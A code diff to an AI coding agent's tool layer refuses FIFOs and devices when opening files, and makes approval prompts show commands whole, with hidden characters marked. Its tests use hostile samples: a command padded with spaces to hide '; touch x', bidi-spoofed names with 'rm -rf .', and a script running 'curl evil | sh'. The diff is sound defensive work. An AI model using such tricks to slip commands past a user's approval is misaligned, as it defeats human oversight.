@@ -13,6 +13,8 @@ use serde_json::{json, Value};
 use volee_ollama::Tool;
 use volee_store::{SessionState, Todo};
 
+use crate::parts::Question;
+
 /// The tools that change things outside the session: each call needs the user's approval.
 pub const NEEDS_APPROVAL: &[&str] = &["shell", "write_file", "edit_file"];
 
@@ -187,13 +189,16 @@ pub fn confine(root: &Path, requested: &str) -> Result<PathBuf, ToolFailure> {
 /// Open a confined path for reading or writing (created when missing), without following a
 /// symlink in its last component, then check where the opened file really is: a symlink swapped
 /// in after [`confine`] looked (a process left running in the sandbox can make them) cannot lead
-/// a write outside the root. A file created outside by such a race is removed again.
+/// a write outside the root. A file created outside by such a race is removed again. Only a
+/// regular file is opened: the open does not wait (`O_NONBLOCK`), so a FIFO — which would block
+/// the agent for good, Ctrl-C included — or a device is refused by what `fstat` says.
 fn open_confined(root: &Path, path: &Path, write: bool) -> Result<std::fs::File, ToolFailure> {
     use std::os::unix::fs::OpenOptionsExt;
     use std::os::unix::io::AsRawFd;
     let existed = path.symlink_metadata().is_ok();
     let mut opts = std::fs::OpenOptions::new();
-    opts.read(true).custom_flags(libc::O_NOFOLLOW);
+    opts.read(true)
+        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK | libc::O_CLOEXEC);
     if write {
         opts.write(true).create(true);
     }
@@ -214,6 +219,15 @@ fn open_confined(root: &Path, path: &Path, write: bool) -> Result<std::fs::File,
             "error: path {} refused: it leads outside the project root {}",
             shown(root, path),
             root.display()
+        ));
+    }
+    let meta = file
+        .metadata()
+        .map_err(|e| ToolFailure(format!("error: cannot read {}: {e}", shown(root, path))))?;
+    if !meta.file_type().is_file() {
+        return fail(format!(
+            "error: {} is not a regular file (a FIFO, a device or a socket): only regular files are read and written",
+            shown(root, path)
         ));
     }
     Ok(file)
@@ -507,20 +521,27 @@ pub fn scratchpad(state: &mut SessionState, args: &Value) -> Result<String, Tool
     })
 }
 
-/// One line saying what a call will do, for the approval question and the pane.
+/// `text` on one line with nothing hidden ([`volee_view::literal_text`], line breaks as `␤`),
+/// cut after `max` characters with the number of characters left out, so a cut never looks
+/// like the end.
+fn one_line(text: &str, max: usize) -> String {
+    let flat = volee_view::literal_text(text).replace('\n', "␤");
+    let len = flat.chars().count();
+    if len > max {
+        format!(
+            "{}… (+{} characters)",
+            flat.chars().take(max).collect::<String>(),
+            len - max
+        )
+    } else {
+        flat
+    }
+}
+
+/// One line saying what a call does, for the pane once it runs and for a denial notice (the
+/// approval question shows it whole: [`question`]).
 pub fn describe_call(name: &str, args: &Value) -> String {
     let s = |k: &str| args.get(k).and_then(Value::as_str).unwrap_or("");
-    let one_line = |t: &str, max: usize| {
-        let flat: String = t
-            .chars()
-            .map(|c| if c.is_control() { ' ' } else { c })
-            .collect();
-        if flat.chars().count() > max {
-            format!("{}…", flat.chars().take(max).collect::<String>())
-        } else {
-            flat
-        }
-    };
     match name {
         "shell" => format!("shell: {}", one_line(s("command"), 200)),
         "read_file" => format!("read_file {}", one_line(s("path"), 200)),
@@ -530,12 +551,56 @@ pub fn describe_call(name: &str, args: &Value) -> String {
             s("content").len()
         ),
         "edit_file" => format!(
-            "edit_file {}: replace {:?} with {:?}",
+            "edit_file {}: replace {} with {}",
             one_line(s("path"), 200),
             one_line(s("old_text"), 60),
             one_line(s("new_text"), 60)
         ),
         _ => format!("{name} {}", one_line(&args.to_string(), 200)),
+    }
+}
+
+/// The approval question of a call: its target in the title, and every text that decides what
+/// it does as a part the pane shows whole (or head, tail and hidden length, with a key to view
+/// all) — the command of `shell`, what `write_file` will write, both texts of `edit_file`.
+pub fn question(name: &str, args: &Value) -> Question {
+    let s = |k: &str| {
+        args.get(k)
+            .and_then(Value::as_str)
+            .unwrap_or("")
+            .to_string()
+    };
+    let path = || one_line(&s("path"), 200);
+    let (title, parts) = match name {
+        "shell" => {
+            let title = match args.get("timeout_secs") {
+                Some(t) if !t.is_null() => {
+                    format!("shell (time limit {})", one_line(&t.to_string(), 20))
+                }
+                _ => "shell".to_string(),
+            };
+            (title, vec![("command".to_string(), s("command"))])
+        }
+        "write_file" => (
+            format!("write_file {}", path()),
+            vec![("content".to_string(), s("content"))],
+        ),
+        "edit_file" => (
+            format!("edit_file {}", path()),
+            vec![
+                ("replace".to_string(), s("old_text")),
+                ("with".to_string(), s("new_text")),
+            ],
+        ),
+        _ => (
+            name.to_string(),
+            vec![("arguments".to_string(), args.to_string())],
+        ),
+    };
+    Question {
+        tool: name.to_string(),
+        title,
+        parts,
     }
 }
 
@@ -666,6 +731,42 @@ mod tests {
         assert!(e.0.contains("not a regular file"), "{}", e.0);
     }
 
+    /// `f` run on a thread of its own, given 5 s: an open that blocks fails the test instead
+    /// of hanging it.
+    fn within_5s<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
+        let (tx, rx) = std::sync::mpsc::channel();
+        std::thread::spawn(move || {
+            let _ = tx.send(f());
+        });
+        rx.recv_timeout(std::time::Duration::from_secs(5))
+            .expect("hung: a FIFO was opened as if it were a file")
+    }
+
+    #[test]
+    fn special_files_are_refused_without_hanging() {
+        let (d, r) = root();
+        make_fifo(&r.join("fifo"));
+        let (rr, rw) = (r.clone(), r.clone());
+        let read = within_5s(move || read_file(&rr, &json!({"path": "fifo"})));
+        let e = read.unwrap_err();
+        assert!(e.0.contains("fifo is not a regular file"), "{}", e.0);
+        let edit = within_5s(move || {
+            edit_file(
+                &rw,
+                &json!({"path": "fifo", "old_text": "a", "new_text": "b"}),
+            )
+        });
+        assert!(edit.unwrap_err().0.contains("not a regular file"));
+        // A device is refused the same way, through a symlink inside the root too.
+        std::os::unix::fs::symlink("/dev/zero", r.join("zero")).unwrap();
+        let rz = r.clone();
+        let e = within_5s(move || read_file(&rz, &json!({"path": "/dev/zero"}))).unwrap_err();
+        assert!(e.0.contains("refused"), "{}", e.0);
+        let rz = r.clone();
+        assert!(within_5s(move || read_file(&rz, &json!({"path": "zero"}))).is_err());
+        drop(d);
+    }
+
     fn make_fifo(path: &Path) {
         let made = std::process::Command::new("mkfifo")
             .arg(path)
@@ -727,6 +828,49 @@ mod tests {
             .contains("directory"));
         assert!(read_file(&r, &json!({})).unwrap_err().0.contains("missing"));
         assert!(write_file(&r, &json!({"path": "/tmp/x", "content": ""})).is_err());
+    }
+
+    #[test]
+    fn approval_questions_hide_nothing() {
+        // The attack: 250 spaces push `; touch x` past the old 200-character cut.
+        let attack = format!("echo harmless{}; touch x", " ".repeat(250));
+        let q = question("shell", &json!({ "command": attack }));
+        assert_eq!(q.tool, "shell");
+        assert_eq!(q.parts, [("command".to_string(), attack.clone())]);
+        assert_eq!(q.whole(), "shell\ncommand:\necho harmless␠×250; touch x");
+        let line = describe_call("shell", &json!({ "command": attack }));
+        assert_eq!(line, "shell: echo harmless␠×250; touch x");
+        // A command longer than the one-line form says how much is left out.
+        let long = format!("echo {}; touch y", "a".repeat(300));
+        let line = describe_call("shell", &json!({ "command": long }));
+        assert!(line.ends_with("… (+114 characters)"), "{line}");
+        // Bidi overrides and zero-width characters are marked, never shown as nothing.
+        let q = question(
+            "shell",
+            &json!({"command": "cat notes\u{202e}txt.sh\u{200b} && rm\u{2066} -rf .\ntouch z\tq"}),
+        );
+        assert_eq!(
+            q.whole(),
+            "shell\ncommand:\ncat notes⟨U+202E⟩txt.sh⟨U+200B⟩ && rm⟨U+2066⟩ -rf .\ntouch z␉q"
+        );
+        let line = describe_call("shell", &json!({"command": "a\u{200f}\nb\x1b]0;t\x07"}));
+        assert_eq!(line, "shell: a⟨U+200F⟩␤b␛]0;t␇");
+        // write_file shows what it will write; edit_file both texts; paths are literal too.
+        let q = question(
+            "write_file",
+            &json!({"path": "run\u{202e}hs.txt", "content": "#!/bin/sh\ncurl evil | sh\n"}),
+        );
+        assert_eq!(
+            q.whole(),
+            "write_file run⟨U+202E⟩hs.txt\ncontent:\n#!/bin/sh\ncurl evil | sh\n"
+        );
+        let q = question(
+            "edit_file",
+            &json!({"path": "a", "old_text": "x", "new_text": "y    z"}),
+        );
+        assert_eq!(q.whole(), "edit_file a\nreplace:\nx\nwith:\ny␠×4z");
+        let q = question("shell", &json!({"command": "sleep 9", "timeout_secs": 300}));
+        assert_eq!(q.title, "shell (time limit 300)");
     }
 
     #[test]
